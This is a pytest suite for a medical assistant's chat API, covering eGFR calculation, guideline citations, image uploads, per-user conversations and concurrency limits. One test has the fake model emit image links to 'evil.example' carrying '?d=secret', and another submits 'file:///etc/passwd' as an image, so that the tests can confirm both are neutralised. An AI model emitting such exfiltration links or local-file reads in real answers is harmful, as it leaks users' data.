"""`/api/ai-chat/` as web applications call it: the whole house behind it, a real HTTP server as the model."""

import asyncio
import base64
import io
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient
from PIL import Image

from api.web import application
from core.assistant import Assistant
from tests.api.doors import ADDRESS, NEAR, doors
from tests.fake_model_server import FakeModelServer, Request, Says, Silent
from tests.houses import house, settings_for
from tests.knowledge.pdfs import pdf
from tests.ui.scripted import picture_bytes

GUIDELINE = pdf(
    "# Metformin in renal impairment\n\nStop metformin when the eGFR falls below 30 mL/min/1.73 m2.\n"
    "Halve the dose of metformin when the eGFR lies between 30 and 44.",
    title="Metformin guideline 2024",
)
EGFR = "What is the eGFR of a 64-year-old woman with a creatinine of 1.4 mg/dL?"
URL = "/api/ai-chat/"


def worded(request: Request) -> Says | str:
    """What the model says: it cites where there is something to cite."""
    return "Stop metformin when the eGFR falls below 30 [1]." if "Metformin guideline" in request.text else "It is so."


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeModelServer]:
    with FakeModelServer(worded) as server:
        yield server


@pytest.fixture(scope="module")
def place(tmp_path_factory: pytest.TempPathFactory, fake: FakeModelServer) -> Iterator[tuple[Assistant, TestClient]]:
    with doors(tmp_path_factory.mktemp("house"), fake.base_url) as (assistant, client):
        assistant.library.add(GUIDELINE, "metformin.pdf")
        yield assistant, client


@pytest.fixture
def client(place: tuple[Assistant, TestClient]) -> TestClient:
    return place[1]


def as_base64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("L", (64, 48), 90).save(out, "JPEG")
    return out.getvalue()


@pytest.mark.parametrize("url", ["/api/ai-chat/", "/api/ai-chat"])
@pytest.mark.parametrize("form", ["json", "data", "files"])
def test_every_form_of_a_message_is_answered_with_and_without_the_last_slash(
    client: TestClient, url: str, form: str
) -> None:
    message: Any = {"message": (None, EGFR)} if form == "files" else {"message": EGFR}
    reply = client.post(url, follow_redirects=False, **{form: message})
    assert reply.status_code == 200
    said = reply.json()
    assert said["success"] is True
    assert "42 mL/min" in said["response"]
    assert said["outcome"] == "answered"
    assert said["warning"] is None
    assert said["model"] == {"name": "medgemma-4b", "demo": False}
    assert reply.headers["cache-control"] == "no-store"


def test_a_computed_value_comes_with_its_inputs_and_its_formula(client: TestClient) -> None:
    tools = client.post(URL, json={"message": EGFR}).json()["tools"]
    tool = next(each for each in tools if each["name"] == "egfr_ckd_epi_2021")
    assert tool["inputs"]["creatinine"] == {"value": 1.4, "unit": "mg/dL", "quote": "creatinine of 1.4 mg/dL"}
    assert tool["result"]["value"] == pytest.approx(42.0, abs=0.1)
    assert tool["result"]["formula"]
    assert tool["result"]["references"]
    assert (tool["missing"], tool["refusal"]) == ([], None)


def test_a_question_back_is_a_success_that_says_what_is_missing(client: TestClient) -> None:
    said = client.post(URL, json={"message": "58M Cr 1.9 eGFR?"}).json()
    assert (said["success"], said["outcome"]) == (True, "asked")
    tool = next(each for each in said["tools"] if each["name"] == "egfr_ckd_epi_2021")
    assert tool["result"] is None
    (missing,) = tool["missing"]
    assert missing["name"] == "creatinine"
    assert missing["units"] == ["mg/dL", "µmol/L"]
    assert missing["why"] in said["response"]


def test_a_citation_leads_to_its_page(client: TestClient) -> None:
    said = client.post(URL, json={"message": "When is metformin stopped in renal impairment?"}).json()
    (citation,) = said["citations"]
    assert (citation["n"], citation["document"], citation["page"]) == (1, "Metformin guideline 2024", 1)
    assert "falls below 30" in citation["quote"]
    assert "[1]" in said["response"]
    page = client.get(citation["page_image"])
    assert page.headers["content-type"] == "image/jpeg"
    assert page.content != client.get(citation["page_image"].partition("?")[0]).content  # the passage is marked


def test_a_red_flag_is_told(client: TestClient) -> None:
    message = "Sudden tearing chest pain radiating to the back, blood pressure differs between the arms."
    assert client.post(URL, json={"message": message}).json()["red_flags"]


def test_an_answer_draws_no_image_of_another_host(client: TestClient, fake: FakeModelServer) -> None:
    before, fake.handler = fake.handler, lambda _: "Yes. ![](https://evil.example/?d=secret) <img src=//evil.example>"
    try:
        words = client.post(URL, json={"message": "Is metformin safe in heart failure?"}).json()["response"]
    finally:
        fake.handler = before
    assert "evil.example" in words
    assert "![" not in words
    assert "<img" not in words


@pytest.mark.parametrize(
    ("name", "kind", "data"),
    [
        ("x-ray.jpg", "image/jpeg", picture_bytes()),
        ("notes.txt", "text/plain", jpeg()),
        ("", "application/octet-stream", jpeg()),
    ],
)
def test_what_an_image_is_its_content_tells(
    client: TestClient, fake: FakeModelServer, name: str, kind: str, data: bytes
) -> None:
    before = len(fake.requests)
    reply = client.post(URL, data={"message": "Describe this X-ray"}, files={"image": (name or "x", data, kind)})
    assert (reply.status_code, reply.json()["success"]) == (200, True)
    assert any(request.images for request in fake.requests[before:])


@pytest.mark.parametrize(
    "image",
    [
        as_base64(picture_bytes()),
        f"data:image/jpeg;base64,{as_base64(picture_bytes())}",
        f"DATA:text/html;charset=x;base64,{as_base64(jpeg())}",
        f" {base64.encodebytes(jpeg()).decode()}\n",
        [as_base64(jpeg()), as_base64(picture_bytes())],
    ],
    ids=["plain", "data URL", "odd data URL", "in lines", "two"],
)
def test_an_image_may_come_as_text(client: TestClient, fake: FakeModelServer, image: str | list[str]) -> None:
    before = len(fake.requests)
    reply = client.post(URL, json={"message": "Describe this X-ray", "image_base64": image})
    assert (reply.status_code, reply.json()["success"]) == (200, True)
    assert any(request.images for request in fake.requests[before:])


def test_an_image_as_text_may_come_in_a_form_too(client: TestClient, fake: FakeModelServer) -> None:
    for fields in ({"image_base64": as_base64(jpeg())}, {"image": f"data:image/png;base64,{as_base64(jpeg())}"}):
        before = len(fake.requests)
        assert client.post(URL, data={"message": "Describe this X-ray", **fields}).status_code == 200
        assert any(request.images for request in fake.requests[before:])


@pytest.mark.parametrize("empty", [{"image_base64": ""}, {"image_base64": None}, {"image_base64": []}, {"user": None}])
def test_what_is_left_empty_counts_as_not_sent(client: TestClient, empty: dict[str, Any]) -> None:
    assert client.post(URL, json={"message": "Thank you, that is all", **empty}).status_code == 200


def test_a_file_field_without_a_file_counts_as_not_sent(client: TestClient) -> None:
    body = (
        b'--x\r\ncontent-disposition: form-data; name="message"\r\n\r\nThank you, that is all\r\n'
        b'--x\r\ncontent-disposition: form-data; name="image"; filename=""\r\n\r\n\r\n--x--\r\n'
    )
    reply = client.post(URL, content=body, headers={"content-type": "multipart/form-data; boundary=x"})
    assert reply.status_code == 200


def test_a_conversation_goes_on_for_its_user_only(client: TestClient) -> None:
    first = client.post(URL, json={"message": "58M Cr 1.9 eGFR?", "user": "ward 3"}).json()
    more = {"message": "creatinine 1.9 mg/dL", "conversation_id": first["conversation_id"]}
    for stranger in ({}, {"user": "ward 4"}, {"user": "api:ward 3"}, {"user": "local"}):
        refused = client.post(URL, json={**more, **stranger})
        assert (refused.status_code, refused.json()["success"]) == (404, False)
    second = client.post(URL, json={**more, "user": "ward 3"}).json()
    assert second["conversation_id"] == first["conversation_id"]
    assert second["outcome"] == "answered"


def test_what_an_application_asks_is_not_among_the_conversations_of_the_page(
    place: tuple[Assistant, TestClient],
) -> None:
    assistant, client = place
    of_page = client.post(URL, json={"message": "Thank you, that is all"}).json()["conversation_id"]
    of_ward = client.post(URL, json={"message": "Thank you, that is all", "user": "ward 3"}).json()["conversation_id"]
    listed = {each.id for each in assistant.conversations.summaries("local")}
    assert of_page in listed
    assert of_ward not in listed


@pytest.mark.parametrize(
    ("body", "status", "said"),
    [
        ({}, 400, "The message is empty."),
        ({"message": " \n"}, 400, "The message is empty."),
        ({"message": 7}, 422, "message has to be text"),
        ({"message": ["a"]}, 422, "message has to be text"),
        ({"message": "a" * 200_001}, 422, "message is longer than 200000 characters"),
        ({"message": "a", "user": "u" * 201}, 422, "user is longer than 200 characters"),
        ({"message": "a", "conversation_id": "0" * 32}, 404, "conversation is not there"),
        ({"message": "a", "image_url": "x"}, 422, "image_url is not one that this address takes"),
        ({"message": "a", "image_base64": "https://example.org/x.png"}, 400, "fetches no image"),
        ({"message": "a", "image_base64": "file:///etc/passwd"}, 400, "fetches no image"),
        ({"message": "a", "image_base64": "data:image/png,abc"}, 422, "holds no base64"),
        ({"message": "a", "image_base64": "data:;base64"}, 422, "holds no base64"),
        ({"message": "a", "image_base64": "é"}, 422, "not valid base64"),
        ({"message": "a", "image_base64": "abc"}, 422, "not valid base64"),
        ({"message": "a", "image_base64": as_base64(b"%PDF-1.7")}, 422, "Image 1 is not an image"),
        ({"message": "a", "image_base64": [as_base64(jpeg()), as_base64(b"GIF89a")]}, 422, "Image 2 is not an image"),
        ({"message": "a", "image_base64": ["aaaa"] * 11}, 422, "image_base64 has more than 10 entries"),
        ([], 422, "has to be an object"),
        ("a", 422, "has to be an object"),
    ],
)
def test_what_cannot_be_taken_is_said_in_a_sentence(client: TestClient, body: Any, status: int, said: str) -> None:
    reply = client.post(URL, json=body)
    assert reply.status_code == status
    assert reply.json().keys() == {"success", "error"}
    assert reply.json()["success"] is False
    assert said in reply.json()["error"]


@pytest.mark.parametrize(
    ("kind", "body", "status"),
    [
        ("application/json", b'{"message": "a", "message": "b"}', 422),
        ("application/json", b'{"message": "a"', 422),
        ("application/json", b"", 422),
        ("text/plain", b"hello", 415),
        ("multipart/form-data", b"hello", 400),
        ("multipart/form-data; boundary=x", b"hello", 400),
        ("multipart/form-data; boundary=x", b"--x\r\ncontent-disposition: form-data\r\n\r\na\r\n--x--", 400),
        ("application/x-www-form-urlencoded", b"message=a&message=b", 422),
        ("application/x-www-form-urlencoded", b"&".join([b"image_base64=a"] * 50), 400),
    ],
)
def test_a_body_that_cannot_be_read_is_refused(client: TestClient, kind: str, body: bytes, status: int) -> None:
    reply = client.post(URL, content=body, headers={"content-type": kind})
    assert reply.status_code == status
    assert reply.json()["success"] is False
    assert reply.json()["error"]


def test_too_many_files_are_refused(client: TestClient) -> None:
    files = [("image", ("x.png", picture_bytes(), "image/png"))] * 11
    reply = client.post(URL, data={"message": "a"}, files=files)
    assert (reply.status_code, reply.json()["success"]) == (400, False)
    assert "10" in reply.json()["error"]


class Model:
    """Says nothing to a question about gout, and tells when it was asked."""

    def __init__(self) -> None:
        self.asked = threading.Event()

    def __call__(self, request: Request) -> Silent | str:
        if "gout" not in request.text:
            return "It is so."
        self.asked.set()
        return Silent()


async def test_a_second_message_waits_for_the_first_of_its_conversation(tmp_path: Path) -> None:
    model = Model()
    with FakeModelServer(model) as fake, house(tmp_path, fake.base_url) as assistant:
        web = application(assistant, settings_for(tmp_path))
        conversation = assistant.conversations.start("local", "earlier")
        first = Caller({"message": "What is gout?", "conversation_id": conversation})
        second = Caller({"message": "What is pseudogout?", "conversation_id": conversation})
        asking = asyncio.create_task(first.ask(web))
        assert await asyncio.to_thread(model.asked.wait, 30)
        await second.ask(web)
        first.hang_up.set()
        await asking
    status, said = second.reply
    assert (status, said["success"]) == (400, False)
    assert "An answer is being written" in said["error"]


async def test_a_caller_who_hangs_up_stops_the_model_and_what_was_found_is_kept(tmp_path: Path) -> None:
    model = Model()
    with FakeModelServer(model) as fake, house(tmp_path, fake.base_url) as assistant:
        caller = Caller({"message": "What is gout?"})
        asking = asyncio.create_task(caller.ask(application(assistant, settings_for(tmp_path))))
        assert await asyncio.to_thread(model.asked.wait, 30)
        caller.hang_up.set()
        await asking
        assert await asyncio.to_thread(fake.hung_up.wait, 30)
        (summary,) = assistant.conversations.summaries("local")
        (turn,) = assistant.conversations.load("local", summary.id).turns
        assert turn.text == "What is gout?"


async def test_who_finds_every_place_taken_is_told_at_once_and_asks_again(tmp_path: Path) -> None:
    model = Model()
    with FakeModelServer(model) as fake, house(tmp_path, fake.base_url) as assistant:
        web = application(assistant, settings_for(tmp_path, answers_at_once=1))
        first, second = Caller({"message": "What is gout?"}), Caller({"message": "Thank you, that is all"})
        asking = asyncio.create_task(first.ask(web))
        assert await asyncio.to_thread(model.asked.wait, 30)
        await second.ask(web)
        status, said = second.reply
        assert (status, said["success"]) == (503, False)
        assert "Ask again in a few seconds." in said["error"]
        first.hang_up.set()
        await asking
        third = Caller({"message": "Thank you, that is all"})
        await third.ask(web)
        assert third.reply[0] == 200


class Caller:
    """One JSON request over bare ASGI, by a caller who may hang up."""

    def __init__(self, message: dict[str, Any]) -> None:
        self.hang_up = asyncio.Event()
        self._body: bytes | None = json.dumps(message).encode()
        self._sent: list[Any] = []

    async def ask(self, web: Any) -> None:
        headers = [(b"host", ADDRESS.partition("//")[2].encode()), (b"content-type", b"application/json")]
        scope = {"type": "http", "method": "POST", "path": URL, "raw_path": URL.encode(), "query_string": b""}
        scope |= {"headers": headers, "client": NEAR, "server": NEAR, "scheme": "http", "http_version": "1.1"}
        await web({**scope, "root_path": "", "asgi": {"version": "3.0"}}, self._receive, self._send)

    @property
    def reply(self) -> tuple[int, dict[str, Any]]:
        return self._sent[0]["status"], json.loads(b"".join(each.get("body", b"") for each in self._sent[1:]))

    async def _receive(self) -> dict[str, Any]:
        if self._body is not None:
            body, self._body = self._body, None
            return {"type": "http.request", "body": body, "more_body": False}
        await self.hang_up.wait()
        return {"type": "http.disconnect"}

    async def _send(self, message: Any) -> None:
        self._sent.append(message)


def test_without_a_model_a_failed_turn_says_so_and_keeps_what_it_found(tmp_path: Path) -> None:
    with doors(tmp_path) as (assistant, client):
        reply = client.post(URL, json={"message": "What is gout?"})
        said = reply.json()
        assert (reply.status_code, said["success"], said["outcome"]) == (503, False, "failed")
        assert "model" in said["error"]
        assert assistant.conversations.load("local", said["conversation_id"]).turns
        computed = client.post(URL, json={"message": EGFR}).json()
        assert (computed["success"], computed["outcome"]) == (True, "answered")
        assert computed["warning"]
        assert computed["model"] is None
        assert "42 mL/min" in computed["response"]
        for url in ("/api/medgemma/status/", "/api/medgemma/status"):
            state = client.get(url).json()
            assert state["available"] is False
            assert state["text"]


def test_the_status_tells_what_the_model_can_do(place: tuple[Assistant, TestClient]) -> None:
    assistant, client = place
    assistant.model.wait_settled(10)
    state = client.get("/api/medgemma/status/").json()
    assert state.pop("text")
    assert state == {
        "available": True,
        "phase": "ready",
        "model": "medgemma-4b",
        "demo": False,
        "vision": True,
        "context_size": 4096,
    }
